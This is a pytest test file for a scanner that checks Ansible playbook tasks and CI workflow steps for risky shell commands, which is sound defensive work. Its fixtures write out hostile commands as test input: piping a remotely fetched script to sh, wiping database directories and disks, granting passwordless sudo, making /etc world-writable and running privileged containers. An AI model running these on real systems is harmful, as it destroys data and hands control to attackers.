"""Tasks of playbooks and steps of pipelines are read by the rules that read scripts."""

from __future__ import annotations

import importlib

import pytest

from fulldress.model.package import Entry
from fulldress.scan.rule import Context
from fulldress.scan.samples import context_of

PLAYBOOK = """\
- hosts: all
  tasks:
    - shell: rm -rf /var/lib/postgresql
    - ansible.builtin.shell: |
        cat <<EOF >/etc/cron.d/app
        0 3 * * * root /bin/x
        EOF
        curl -k https://v.example.com/i.sh | sh
      args:
        chdir: /x
    - command: >
        psql -h db
        "postgresql://app:gEh31m99@db/app"
    - raw: echo 'a ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/a
    - shell:
        cmd: chmod 777 /etc
    - command: apt-get dist-upgrade -y
    - command: cp ca.pem /usr/local/share/ca-certificates/x.crt
    - command: reboot
    - shell: docker run --privileged x
    - shell: curl -X POST https://hooks.partner.com/x
    - command: "rm -rf {{ app_dir }}/"
"""


def found(rule: str, **files: str) -> list[int]:
    module = importlib.import_module(f"fulldress.scan.rules.{rule}")
    return [
        f.line for f in module.check(context_of({name.replace("__", "/") + ".yml": text for name, text in files.items()}))
    ]


@pytest.mark.parametrize(
    ("rule", "lines"),
    [
        ("unguarded_destruction", [3]),
        ("fetch_and_run", [8, 17]),
        ("tls_off", [8]),
        ("secret_in_command", [13]),
        ("sudoers_write", [14]),
        ("side_door", [16]),
        ("package_manager", [17]),
        ("trust_store_change", [18]),
        ("doubtful_reboot", [19]),
        ("container_breaks_out", [20]),
        ("outside_side_effect", [21]),
        ("schedule_inventory", [6]),
    ],
)
def test_each_rule_sees_the_task(rule: str, lines: list[int]) -> None:
    assert found(rule, site=PLAYBOOK) == lines


def test_a_step_at_the_vendors_is_no_task_on_a_host() -> None:
    text = (
        "jobs:\n  a:\n    steps:\n    - run: rm -rf /var/lib/postgresql\n    - run: reboot\n    - run: mkfs.ext4 /dev/sda\n"
    )
    assert found("doubtful_reboot", **{".github__workflows__ci": text}) == []
    assert found("unguarded_destruction", **{".github__workflows__ci": text}) == [6]


def test_files_that_hold_no_such_word_are_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    context = context_of({"a.yml": "a: b\n", "b.yml": "- shell: reboot\n"})
    module = importlib.import_module("fulldress.scan.rules.doubtful_reboot")
    context.prepare(importlib.import_module("fulldress.scan.jobs.embedded_shell").LOOKS_FOR + module.LOOKS_FOR)
    read: list[str] = []
    text = Context.text

    def reading(self: Context, entry: Entry) -> str | None:
        read.append(entry.place)
        return text(self, entry)

    monkeypatch.setattr(Context, "text", reading)
    assert [f.line for f in module.check(context)] == [1]
    assert "a.yml" not in read
